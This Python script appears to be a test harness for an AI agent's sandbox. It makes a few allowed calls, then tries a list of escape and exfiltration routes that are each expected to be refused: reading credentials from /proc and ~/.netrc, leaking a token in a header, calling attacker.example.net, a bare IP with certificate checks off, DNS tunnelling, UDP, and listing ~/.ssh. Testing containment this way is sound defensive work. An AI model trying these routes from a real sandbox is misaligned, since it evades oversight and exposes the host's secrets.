#!/usr/bin/env python3
"""agent.py - a scripted agent: honest work first, then every way out that it can think of.

Prints one JSON line an attempt: {"what", "expected", "result", "detail"}. Standard library only.
"""
import http.client
import json
import os
import pathlib
import socket
import ssl
import time
import urllib.error
import urllib.request


def attempt(what, expected, action):
    began = time.monotonic()
    try:
        result, detail = "done", action()
    except urllib.error.HTTPError as e:
        body = e.read().decode(errors="replace")
        try:
            detail = json.loads(body)["error"]["message"]
        except (ValueError, KeyError, TypeError):
            detail = body[:100]
        result = f"refused ({e.code})"
    except http.client.HTTPException:
        result, detail = "refused", "the answer was cut off"
    except OSError as e:
        result, detail = "refused", str(getattr(e, "reason", e))
    print(json.dumps({"what": what, "expected": expected, "result": result, "detail": str(detail),
                      "ms": round((time.monotonic() - began) * 1000)}), flush=True)


def fetch(url, method="GET", body=None, headers=None):
    request = urllib.request.Request(url, data=body, method=method, headers=headers or {})
    with urllib.request.urlopen(request, timeout=30) as answer:
        return answer.read()


def use_api():
    items = json.loads(fetch("https://api.example.test/items", headers={"authorization": "Bearer " + os.environ["API_TOKEN"]}))
    return f"{len(json.dumps(items))} bytes of JSON, with a token that I do not have"


def use_llm():
    body = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 64, "messages": [{"role": "user", "content": "ping"}]})
    answer = json.loads(fetch("https://api.anthropic.com/v1/messages", "POST", body.encode(), {
        "content-type": "application/json", "x-api-key": os.environ["ANTHROPIC_API_KEY"],
        "anthropic-version": "2023-06-01"}))
    return answer["content"][0]["text"]


def use_registry():
    index = json.loads(fetch("https://registry.npmjs.org/paddock-hay"))
    return f"{index['name']} {index['dist-tags']['latest']}"


def write_file():
    pathlib.Path("notes.txt").write_text("written by the agent\n")
    return "notes.txt in the workspace"


def read_credential():
    token = os.environ["API_TOKEN"]
    for place in ("/proc/1/environ", "/proc/1/mem", "/run/secrets", str(pathlib.Path.home() / ".netrc")):
        try:
            if pathlib.Path(place).exists() and b"TRY_API_TOKEN" in pathlib.Path(place).read_bytes():
                return f"found in {place}"
        except OSError:
            pass
    answer = urllib.request.Request("https://api.example.test/items", headers={"authorization": "Bearer " + token})
    raise OSError(f"all I hold is {token[:12]}..., a placeholder ({answer.get_method()} works only through the gate)")


def mirror():
    return fetch("https://api.example.test/echo").decode()


def placeholder_elsewhere():
    return fetch("https://registry.npmjs.org/paddock-hay", headers={"x-leak": os.environ["API_TOKEN"]})


def post():
    return fetch("https://api.example.test/items", "POST", b'{"name": "mine"}')


def unlisted():
    return fetch("https://attacker.example.net/")


def bare_address():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection(("93.184.216.34", 443), timeout=10) as s, context.wrap_socket(s) as t:
        t.send(b"GET / HTTP/1.0\r\n\r\n")
        return t.recv(100)


def dns_tunnel():
    return socket.getaddrinfo("c2VjcmV0IGRhdGE.tunnel.example.net", 53)


def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(10)
        s.connect(("1.1.1.1", 443))
        s.send(b"data")
        return s.recv(10)


def ssh_keys():
    return list((pathlib.Path.home() / ".ssh").iterdir())


def main():
    attempt("call an API that demands a token", "done", use_api)
    attempt("ask the language model", "done", use_llm)
    attempt("look up a package", "done", use_registry)
    attempt("write a file of the project", "done", write_file)
    attempt("read the credential", "refused", read_credential)
    attempt("have it mirrored by the API", "refused", mirror)
    attempt("send a placeholder to another host", "refused", placeholder_elsewhere)
    attempt("POST where only GET is allowed", "refused", post)
    attempt("reach an unlisted host", "refused", unlisted)
    attempt("reach a bare IP address", "refused", bare_address)
    attempt("tunnel through DNS", "refused", dns_tunnel)
    attempt("send UDP", "refused", udp)
    attempt("read ~/.ssh of the host", "refused", ssh_keys)


main()
